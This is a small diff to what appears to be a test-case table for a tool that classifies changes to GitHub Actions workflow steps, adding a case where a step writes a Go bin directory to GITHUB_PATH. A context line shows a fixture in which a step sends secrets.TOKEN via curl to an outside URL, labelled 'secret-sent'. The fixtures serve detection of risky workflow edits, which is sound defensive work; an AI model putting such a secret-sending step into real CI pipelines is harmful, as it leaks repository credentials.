@@ -120,6 +120,12 @@ export default [
       { path, before: forStrangers('echo'), after: forStrangers('echo "A=$B" >> $GITHUB_ENV'), outcome: 'environment' },
       {
         path,
+        before: forStrangers('echo'),
+        after: forStrangers('echo "${GOPATH}/bin" >> "$GITHUB_PATH"'),
+        outcome: 'none',
+      },
+      {
+        path,
         before: run('make'),
         after: run('curl -H "Authorization: ${{ secrets.TOKEN }}" https://example.com'),
         outcome: 'secret-sent',
